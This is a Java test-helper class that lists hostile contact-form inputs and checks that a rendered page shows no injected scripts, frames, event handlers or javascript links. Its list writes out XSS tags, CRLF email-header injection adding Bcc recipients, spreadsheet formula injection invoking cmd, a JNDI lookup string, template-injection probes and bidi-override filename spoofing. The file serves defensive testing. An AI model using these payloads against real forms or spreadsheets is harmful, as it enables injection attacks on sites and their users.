package org.usher;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.usher.design.FirstPaint;

/// What people type who mean no good, and how one sees that it did nothing. Everything ends with
/// [#MARK], by which it is found again.
public final class Hostile {

  public static final String MARK = "mark7x";

  /// Signs that nobody sees, that begin a new line, or that turn the direction of what follows.
  public static final String UNSEEN =
      "[\\p{Cc}&&[^\\n\\r\\t]]|[\\u2028\\u2029\\u202A-\\u202E\\u2066-\\u2069\\u200E\\u200F\\u061C]";

  /// Short enough for one line of the contact form, so that it is taken where anything is.
  public static final List<String> TAKEN =
      List.of(
          "<script>alert(1)</script>\"'><img src=x onerror=alert(2)> " + MARK,
          "</textarea></title><a href=javascript:alert(3)>x</a>&lt;b&gt; " + MARK,
          "Jana\r\nBcc: all@pumps.example\r\n\r\n<b>x</b>\nX: y " + MARK,
          "%0d%0aBcc: all@pumps.example\u2028Bcc: all@pumps.example " + MARK,
          "=cmd|' /C calc'!A0 " + MARK,
          "\t=HYPERLINK(\"https://x.example\") " + MARK,
          "@SUM(1+1)*\uFF1D1 " + MARK,
          "-2+3+cmd|' /C calc'!A0 " + MARK,
          "\u202Egnp.exe\u2066\u200F\u061C\u200B\uFEFF " + MARK,
          "a\u0000\u0007\u001B[31m\u0085b\uDB40\uDC41 " + MARK,
          "${jndi:ldap://x.example/a} {lead.email} #{7*7} %s%n {0} " + MARK);

  /// More than anybody types.
  public static final String LONG = "x<".repeat(500_000) + MARK;

  private Hostile() {}

  /// That a page has no script, no handler and no frame but its own, and leads nowhere else by
  /// script.
  public static void assertHarmless(Document page) {
    assertThat(page.select("script:not([src]):not([type='application/ld+json'])"))
        .allMatch(script -> script.data().equals(FirstPaint.SCRIPT))
        .hasSizeLessThan(2);
    assertThat(
            page.select(
                "iframe, object, embed," + " img[src=x], b:matchesOwn(^x$), a[href^=javascript]"))
        .isEmpty();
    assertThat(page.select("script[src]").eachAttr("src"))
        .allMatch(source -> source.startsWith("/") || source.startsWith("./VAADIN"));
    assertThat(page.getAllElements()).noneMatch(Hostile::hasHandler);
  }

  private static boolean hasHandler(Element element) {
    return element.attributes().asList().stream()
        .anyMatch(attribute -> attribute.getKey().startsWith("on"));
  }
}
